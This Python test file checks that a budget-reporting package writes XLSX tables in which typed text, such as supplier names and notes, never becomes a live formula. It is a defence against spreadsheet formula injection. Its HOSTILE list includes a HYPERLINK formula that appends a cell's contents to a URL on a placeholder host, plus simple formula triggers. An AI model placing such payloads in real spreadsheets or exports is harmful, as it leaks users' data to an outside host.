"""Tables for people: HTML and XLSX; no typed text ever becomes a live formula."""

from __future__ import annotations

import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest

from mics_budget.config import DataDir
from mics_budget.procurement.recording import add_lot, record_event
from mics_budget.report.presentation import Table, write_xlsx
from mics_budget.report.report import MonthlyReport

HOSTILE = ['=HYPERLINK("http://x/?"&B2,"ok")', "=1+2", "+1+2", "-1+2", "@SUM(A1)"]


def _formulas(path) -> list[str]:
    """Every formula element in every sheet of an XLSX file."""
    with zipfile.ZipFile(path) as archive:
        sheets = {name: archive.read(name) for name in archive.namelist()
                  if name.startswith("xl/worksheets/")}
    assert sheets
    return [name for name, xml in sheets.items() if b"<f>" in xml or b"<f " in xml]


def test_text_cells_are_strings_never_formulas(tmp_path):
    frame = pd.DataFrame({"supplier": HOSTILE, "paid": [1.5, -2.0, 3.0, 4.0, 5.0]})
    path = tmp_path / "t.xlsx"
    write_xlsx(path, [Table("register", frame, {"paid": "money"})], banner="=B", title="=T")
    assert _formulas(path) == []
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    for text in HOSTILE:
        assert cells[text] == "s"  # kept as typed, a string
    assert cells[-2.0] == "n"      # numbers stay numbers


@pytest.mark.slow  # over half a second: the fast loop stays under a minute
def test_a_hostile_register_gives_a_report_xlsx_without_formulas(money_dir, tmp_path):
    data = DataDir(money_dir)
    add_lot(data, "L2", "7.2", "auction", "100", title=HOSTILE[0],
            planned_announce=date(2023, 6, 1))
    record_event(data, "L2", "announced", date(2023, 6, 2), note=HOSTILE[1],
                 document=HOSTILE[4], today=date(2024, 1, 31))
    record_event(data, "L1", "amended", date(2023, 7, 20), amount="9600000",
                 supplier=HOSTILE[2], note=HOSTILE[3], today=date(2024, 1, 31))
    report = MonthlyReport.build(str(money_dir), "2023-07")
    path = tmp_path / "r.xlsx"
    report.write_xlsx(path)
    assert _formulas(path) == []
    texts = {c.value for sheet in openpyxl.load_workbook(path).worksheets
             for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert HOSTILE[0] in texts
